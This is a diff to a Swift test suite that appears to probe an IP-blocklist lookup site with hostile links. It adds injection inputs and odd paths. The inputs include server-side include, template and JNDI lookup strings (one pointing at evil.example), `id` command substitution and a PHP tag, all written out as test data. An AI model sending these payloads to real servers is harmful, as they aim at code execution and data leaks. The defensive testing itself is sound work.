@@ -34,6 +34,7 @@ struct HostileLinkTests {
         // Directives of every server, and other people's.
         "ip=<!--%23echo+var=%22DOCUMENT_ROOT%22+-->", "ip=%3C!--%23include+virtual=%22/%22--%3E",
         "ip={{env+%22HOME%22}}", "ip=%7B%7B.Req.Header%7D%7D", "ip={http.request.remote}",
+        "ip={http.request.remote.host}",
         "ip=${jndi:ldap://evil.example/a}", "ip=%24%7Benv:HOME%7D", "ip=$document_root",
         "ip=%25%7BREMOTE_ADDR%7D", "ip=`id`", "ip=%60id%60", "ip=<?php+phpinfo()+?>", "ip=$1",
         "retour_ip=192.0.2.1", "known=ip", "x=%26ip=192.0.2.1", "x=%3Bip=192.0.2.1",
@@ -135,7 +136,9 @@ struct HostileLinkTests {
                     "/de/dnsbl/secretkey.dq.list.example/?ip=192.0.2.77", "/_variants/?192.0.2.77",
                     "/" + String(repeating: "b", count: 400) + "?ip=192.0.2.77", "/en?192.0.2.77",
                     "/de/dnsbl/%00?ip=192.0.2.77", "/.htaccess?192.0.2.77",
-                    "/de/?\"\\x%0a192.0.2.77",
+                    "/de/?\"\\x%0a192.0.2.77", "/rbl/192.0.2.77/secretkey.dq.list.example",
+                    "/RBL/192.0.2.77?ip=192.0.2.77", "/case?c=bl&i=ip&v=192.0.2.77",
+                    "/Why?id=192.0.2.77;ip=192.0.2.77",
                 ] {
                     _ = try? await HTTPReply.get(
                         root + link, ["Referer": "http://a.example/192.0.2.77"])
